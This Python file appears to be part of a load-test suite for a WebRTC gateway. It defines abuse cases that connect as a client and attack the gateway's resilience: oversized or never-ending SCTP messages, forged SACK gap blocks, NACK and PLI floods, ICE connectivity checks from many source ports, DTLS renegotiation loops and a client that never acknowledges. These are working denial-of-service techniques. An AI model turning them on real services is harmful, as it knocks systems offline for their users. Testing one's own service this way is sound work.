"""Below the data channel and the media: a connected peer that breaks SCTP's rules or asks too much with RTCP
feedback, cases of `python -m loadtests.gateway_abuse` (RELIABILITY.md, "An eighth pass").

A browser's SCTP stack sends no more than the receive window the gateway advertised (1 MiB) and fills the holes it
leaves. A client that wants to hurt the gateway need not: after its DTLS handshake, any DATA chunk it sends reaches
aiortc's association, which takes it whatever the window, keeps it until its message is whole, and for each chunk
walks what it holds (the TSNs past a hole are sorted again, an unfinished message is scanned again). The attacker
here is aiortc itself, connected as the page is, then sending DATA chunks of its own making on its data channel's
stream at `rate` chunks a second (1000 bytes each: 8 Mbit/s, a home uplink), or RTCP feedback on the video the
gateway sends it.
"""
from __future__ import annotations

import asyncio
import contextlib
import json
import random
import socket
import time
from collections.abc import Callable
from struct import pack

from aioice import stun
from aiortc import RTCPeerConnection
from aiortc.rtcsctptransport import SCTP_DATA_FIRST_FRAG, WEBRTC_BINARY, DataChunk, RTCSctpTransport, SackChunk
from aiortc.rtp import RTCP_PSFB, RTCP_PSFB_PLI, RTCP_RTPFB, RTCP_RTPFB_NACK, pack_rtcp_packet
from aiortc.sdp import SessionDescription
from OpenSSL import SSL

from loadtests.gateway_peer import Peer, short


async def raw_chunks(sctp: RTCSctpTransport, stream_id: int, n: int, *, size: int, hole: bool, rate: float,
                     stop: Callable[[], bool] = lambda: False) -> tuple[int, float]:
    """Send `n` DATA chunks of one message that never ends (first fragment, then middles), `size` bytes each, on
    `stream_id` of the association `sctp` (the attacker's side), skipping the next TSN if `hole` (it is never sent),
    `rate` a second. Stops early once `stop()`. The association's next TSN moves past those sent (a next call goes
    on from there). Returns (chunks sent, seconds)."""
    first_tsn = sctp._local_tsn + (1 if hole else 0)  # the next TSN the other side expects is _local_tsn
    t0, batch, sent = time.monotonic(), max(1, int(rate // 100)), 0
    while sent < n and not (sent % batch == 0 and sent and stop()):
        chunk = DataChunk(flags=SCTP_DATA_FIRST_FRAG if sent == 0 else 0)
        chunk.tsn = (first_tsn + sent) % 2**32
        chunk.stream_id, chunk.stream_seq, chunk.protocol = stream_id, 0, WEBRTC_BINARY
        chunk.user_data = b"x" * size
        await sctp._send_chunk(chunk)
        sent += 1
        if sent % batch == 0:
            await asyncio.sleep(max(0.0, t0 + sent / rate - time.monotonic()))
    sctp._local_tsn = (first_tsn + sent) % 2**32
    return sent, time.monotonic() - t0


def gap_sack(sctp: RTCSctpTransport, gaps: int) -> SackChunk:
    """A SACK from `sctp` whose `gaps` gap blocks each claim the widest span a block can: TSNs 1..65535 past the
    cumulative one, which the other side never sent."""
    sack = SackChunk()
    sack.cumulative_tsn = sctp._last_received_tsn  # the last TSN the other side sent: not an old SACK
    sack.advertised_rwnd, sack.gaps = 1 << 20, [(1, 65535)] * gaps
    return sack


def closed(peer: Peer) -> bool:
    return peer.pc.connectionState in ("closed", "failed") or peer.channel.readyState == "closed"


def ended(peer: Peer, how: str = "") -> str:
    """What became of the attacker's connection, for a case's outcome (`how`: after what the gateway closed it)."""
    return f"its connection closed by the gateway{how}" if closed(peer) else "its connection still open"


async def ask_renegotiation(dtls) -> None:
    """Send the peer of `dtls` (an aiortc DTLS transport whose side is the DTLS server) a HelloRequest: a new handshake.
    SSL.Error once the peer has refused one (OpenSSL takes its no_renegotiation alert as fatal)."""
    dtls._ssl.renegotiate()
    with contextlib.suppress(SSL.WantReadError):
        dtls._ssl.do_handshake()
    await dtls._write_ssl()


async def unfinished_message(http, victim, *, size: int, hole: bool, seconds: float, rate: float) -> str:
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    sent, took = await raw_chunks(peer.pc.sctp, peer.channel.id, int(seconds * rate), size=size, hole=hole,
                                  rate=rate, stop=lambda: closed(peer))
    deadline = time.monotonic() + 5  # a gateway that closes it at the last chunk
    while not closed(peer) and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    outcome = ended(peer, f" after {sent} chunks ({took:.1f} s)")
    await peer.pc.close()
    return f"{sent} chunks of {size} bytes ({sent * size / 2**20:.1f} MiB) in {took:.1f} s; {outcome}"


async def sctp_past_window(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
    """One message's fragments, in order, never finished, sent past the 1 MiB window the gateway advertised."""
    return await unfinished_message(http, victim, size=1000, hole=False, seconds=seconds, rate=rate)


async def sctp_past_hole(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
    """The same, after a TSN that is never sent: every chunk after it waits for it."""
    return await unfinished_message(http, victim, size=1000, hole=True, seconds=seconds, rate=rate)


async def sctp_empty_chunks(http, victim, seconds: float = 20.0, rate: float = 1000.0) -> str:
    """One message of DATA chunks without data, in order: none uses the window, each is held."""
    return await unfinished_message(http, victim, size=0, hole=False, seconds=seconds, rate=rate)


async def sctp_sack_gaps(http, victim, seconds: float = 20.0, per_second: float = 1.0, gaps: int = 290) -> str:
    """SACKs whose `gaps` gap blocks each claim the largest span a block can (65535 TSNs past the cumulative one,
    none of which the gateway sent), one packet of ~1.2 KB a second: aiortc walks every TSN each block names."""
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    sctp, t0, sent = peer.pc.sctp, time.monotonic(), 0
    while time.monotonic() - t0 < seconds and not closed(peer):
        sack = gap_sack(sctp, gaps)
        await sctp._send_chunk(sack)
        sent += 1
        await asyncio.sleep(1 / per_second)
    took = time.monotonic() - t0
    outcome = ended(peer)
    await peer.pc.close()
    return f"{sent} SACKs of {gaps} gap blocks ({len(bytes(sack))} bytes each) in {took:.1f} s; {outcome}"


class VideoSeen:
    """The gateway's video stream as the attacker's receiver sees it: its SSRC and the last sequence number."""

    def __init__(self, pc: RTCPeerConnection):
        receiver = next(r for r in pc.getReceivers() if r.track.kind == "video")
        self.transport, self.ssrc, self.seq, self.packets = receiver.transport, None, None, 0
        handle = receiver._handle_rtp_packet

        async def seen(packet, arrival_time_ms):
            self.ssrc, self.seq, self.packets = packet.ssrc, packet.sequence_number, self.packets + 1
            await handle(packet, arrival_time_ms=arrival_time_ms)
        receiver._handle_rtp_packet = seen

    def nack(self, entries: int) -> bytes:
        """A generic NACK naming the 17 latest packets (one pid and a full bitmask) `entries` times over."""
        return self.nack_of([((self.seq - 16) % 65536, 0xFFFF)] * entries)

    def nack_of(self, fci: list[tuple[int, int]]) -> bytes:
        """A generic NACK of (pid, bitmask of the 16 packets after it) entries; (seq, 0) names one packet."""
        entries = b"".join(pack("!HH", pid, blp) for pid, blp in fci)
        return pack_rtcp_packet(RTCP_RTPFB, RTCP_RTPFB_NACK, pack("!LL", 1, self.ssrc) + entries)

    def pli(self) -> bytes:
        return pack_rtcp_packet(RTCP_PSFB, RTCP_PSFB_PLI, pack("!LL", 1, self.ssrc))


async def rtcp_flood(http, make: Callable[[VideoSeen], bytes], seconds: float, per_second: float) -> str:
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    video = VideoSeen(peer.pc)
    while not video.packets:
        await asyncio.sleep(0.05)
    await asyncio.sleep(2.0)
    calm = video.packets / 2.0  # video packets a second before the flood (counted from the first: ~2 s)
    t0, sent, before = time.monotonic(), 0, video.packets
    while time.monotonic() - t0 < seconds and not closed(peer):
        packet = make(video)
        await video.transport._send_rtp(packet)
        sent += 1
        await asyncio.sleep(max(0.0, t0 + sent / per_second - time.monotonic()))
    took = time.monotonic() - t0
    rate = (video.packets - before) / took
    outcome = ended(peer)
    await peer.pc.close()
    return (f"{sent} RTCP packets of {len(packet)} bytes in {took:.1f} s; it received {rate:.0f} video packets a "
            f"second ({calm:.0f} before); {outcome}")


async def rtcp_nacks(http, victim, seconds: float = 20.0, per_second: float = 10.0) -> str:
    """NACKs for the gateway's video, each naming its 17 latest packets 297 times over (one 1200-byte packet asks
    for 5049 retransmissions of what the gateway keeps, 128 packets), 10 a second."""
    return await rtcp_flood(http, lambda video: video.nack(297), seconds, per_second)


async def rtcp_plis(http, victim, seconds: float = 20.0, per_second: float = 100.0) -> str:
    """Picture loss indications for the gateway's video, 100 a second: every frame a keyframe."""
    return await rtcp_flood(http, VideoSeen.pli, seconds, per_second)


def binding_request(gateway_ufrag: str, own_ufrag: str, password: str) -> bytes:
    """An ICE connectivity check the gateway accepts as its peer's: USERNAME and MESSAGE-INTEGRITY from the SDP."""
    request = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
    request.attributes.update({"USERNAME": f"{gateway_ufrag}:{own_ufrag}", "PRIORITY": 1853824767,
                               "ICE-CONTROLLING": random.getrandbits(64)})
    request.add_message_integrity(password.encode())
    request.add_fingerprint()
    return bytes(request)


async def ice_new_addresses(http, victim, seconds: float = 20.0, per_second: float = 4000.0) -> str:
    """Valid connectivity checks for the attacker's own session (its credentials are in the offer and answer), each
    from a new source port: each is a new peer-reflexive candidate to aioice, with its candidate pair and its checks.
    (From a host that can spoof its source, the addresses are any it likes; the gateway's checks then go to them.)"""
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    answer = SessionDescription.parse(peer.pc.remoteDescription.sdp).media[0]
    offer = SessionDescription.parse(peer.pc.localDescription.sdp).media[0]
    target = next((c.ip, c.port) for c in answer.ice_candidates if c.type == "host" and ":" not in c.ip)
    data = binding_request(answer.ice.usernameFragment, offer.ice.usernameFragment, answer.ice.password)
    t0, sent = time.monotonic(), 0
    while time.monotonic() - t0 < seconds and not closed(peer):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:  # a new source port each time
            sock.sendto(data, target)
        sent += 1
        if sent % 10 == 0:
            await asyncio.sleep(max(0.0, t0 + sent / per_second - time.monotonic()))
    took = time.monotonic() - t0
    outcome = ended(peer)
    await peer.pc.close()
    return f"{sent} connectivity checks from as many source ports in {took:.1f} s; {outcome}"


async def dtls_renegotiations(http, victim, seconds: float = 20.0) -> str:
    """DTLS 1.2 renegotiations of the attacker's session, one after the other as fast as both ends complete them (the
    attacker is the DTLS server of its session: it sends a HelloRequest, the gateway starts a new handshake; WebRTC
    never renegotiates)."""
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"
    dtls = peer.pc.sctp.transport
    t0, asked, completed, refused = time.monotonic(), 0, 0, ""
    while time.monotonic() - t0 < seconds and not closed(peer) and not refused:
        try:
            await ask_renegotiation(dtls)
            asked += 1
            t = time.monotonic()
            while dtls._ssl.renegotiate_pending() and time.monotonic() - t < 1.0:
                await asyncio.sleep(0.001)
                with contextlib.suppress(SSL.WantReadError):
                    dtls._ssl.do_handshake()  # raises once the gateway's no_renegotiation alert is in
            completed += not dtls._ssl.renegotiate_pending()
        except SSL.Error:
            refused = "; refused by the gateway (its OpenSSL broke on the no_renegotiation alert)"
    took = time.monotonic() - t0
    outcome = ended(peer)
    with contextlib.suppress(SSL.Error):
        await peer.pc.close()
    return f"{asked} renegotiations asked, {completed} completed ({completed / took:.0f} a second){refused}; {outcome}"


async def sctp_never_acknowledged(http, victim, seconds: float = 120.0, per_second: float = 2.0) -> str:
    """A client whose SCTP stack acknowledges nothing the gateway sends (no SACK ever) and asks for typed turns, 2 a
    second: every event of every reply waits in the gateway's data-channel queue for a client that never takes it."""
    peer = Peer()
    status, text = await peer.connect(http)
    if status != 200:
        return f"attacker not connected: {short(status, text)}"

    async def no_sack() -> None:
        return None
    peer.pc.sctp._send_sack = no_sack
    t0, sent, queued = time.monotonic(), 0, []
    while time.monotonic() - t0 < seconds and not closed(peer):
        peer.channel.send(json.dumps({"type": "text", "text": f"Tell me about the number {sent}."}))
        sent += 1
        if sent % 20 == 0:  # what the gateway holds for clients that have not taken it (a tree that says so)
            async with http.get("/stats") as r:
                queued.append((await r.json()).get("unread_bytes_largest"))
        await asyncio.sleep(max(0.0, t0 + sent / per_second - time.monotonic()))
    took = time.monotonic() - t0
    outcome = ended(peer, f" after {took:.0f} s" if closed(peer) else "")
    await peer.pc.close()
    held = [q for q in queued if q is not None]
    return (f"{sent} typed turns in {took:.0f} s, nothing acknowledged; {outcome}"
            + (f"; its queue at the gateway every 10 s: {', '.join(f'{q // 1024} KiB' for q in held)}" if held else ""))


CASES = (sctp_past_window, sctp_past_hole, sctp_empty_chunks, sctp_sack_gaps, rtcp_nacks, rtcp_plis, ice_new_addresses,
         dtls_renegotiations, sctp_never_acknowledged)
